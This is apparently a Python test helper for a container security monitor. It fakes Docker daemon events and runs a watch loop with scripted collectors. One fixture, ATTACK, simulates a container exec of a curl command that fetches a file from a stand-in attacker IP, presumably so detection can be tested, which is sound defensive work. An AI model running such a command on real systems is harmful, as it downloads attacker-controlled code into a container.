"""Makes runs of `watch` out of collectors that are scripts, without the command line."""

import json
from collections.abc import Callable, Sequence
from typing import Any

from made_events import AN0691
from tidewaiter.alert import Alert, Output
from tidewaiter.edge.collector import Condition, Desk, Observation
from tidewaiter.edge.resume import Resumed
from tidewaiter.edge.watch import Pulse, Watch
from tidewaiter.engine import Engine
from tidewaiter.policy import DEFAULT_POLICY, TrustPolicy
from tidewaiter.snapshot import State

NS = 1_000_000_000
BEGIN = 1_790_000_000
Hand = Callable[[Desk], None]


class Doing:
    """A collector that does something, in its thread, and then ends."""

    def __init__(self, does: Hand, name: str = "docker") -> None:
        self.name = name
        self._does = does

    def run(self, desk: Desk) -> None:
        """Do it."""
        self._does(desk)


class Seen:
    """A view that remembers."""

    def __init__(self) -> None:
        self.sentences: list[str] = []
        self.conditions: list[Condition] = []
        self.pulses: list[Pulse] = []

    def say(self, sentence: str) -> None:
        """Remember a sentence."""
        self.sentences.append(sentence)

    def condition(self, condition: Condition) -> None:
        """Remember a condition."""
        self.conditions.append(condition)

    def output(self, output: Output) -> None:
        """Outputs go elsewhere."""

    def tick(self, pulse: Pulse) -> None:
        """Remember a pulse."""
        self.pulses.append(pulse)

    def close(self) -> None:
        """Nothing is open."""


def engine_of(state: State | None = None, policy: TrustPolicy = DEFAULT_POLICY) -> Engine:
    """An engine that watches."""
    return Engine(policy, AN0691, state=state, live=True)


def docker(action: str, second: int, container: str = "9e" * 32) -> Observation:
    """An event of the Docker daemon."""
    actor = {"ID": container, "Attributes": {"image": "hub.example/cache:latest", "name": "cache"}}
    event = {"Type": "container", "Action": action, "Actor": actor, "time": BEGIN + second}
    record = json.dumps(event | {"timeNano": (BEGIN + second) * NS}).encode()
    return Observation("docker_events", "/run/docker.sock", record)


ATTACK = [docker("create", 0), docker("start", 1), docker("exec_create: curl http://203.0.113.7/x", 5)]


class Run:
    """A watch that ends when its collectors have done what they do."""

    def __init__(
        self,
        *collectors: Doing,
        resumed: Resumed | None = None,
        out: Callable[[Output], None] | None = None,
        time_ns: int = BEGIN * NS,
        **how: Any,
    ) -> None:
        self.outputs: list[Output] = []
        self.view = Seen()
        left = len(collectors)

        def ending(hand: Doing) -> Hand:
            def do(desk: Desk) -> None:
                nonlocal left
                try:
                    hand.run(desk)
                finally:
                    left -= 1
                    if not left:
                        self.watch.stop()

            return do

        self.watch = Watch(
            resumed or Resumed(engine_of(), [], {}),
            [Doing(ending(hand), hand.name) for hand in collectors],
            **{"cluster": "default", "node": "n1", **how},
            out=out or self.outputs.append,
            view=self.view,
            time_ns=lambda: time_ns,
        )
        self.watch.run(containers=True)

    @property
    def alerts(self) -> list[Alert]:
        """What was given out, in its order."""
        return [output for output in self.outputs if isinstance(output, Alert)]


def handing_in(observations: Sequence[Observation], name: str = "docker") -> Doing:
    """A collector that is ready and hands in these."""

    def do(desk: Desk) -> None:
        desk.tell(Condition(name, "ready", "stands in"))
        for observation in observations:
            desk.observe(observation)

    return Doing(do, name)
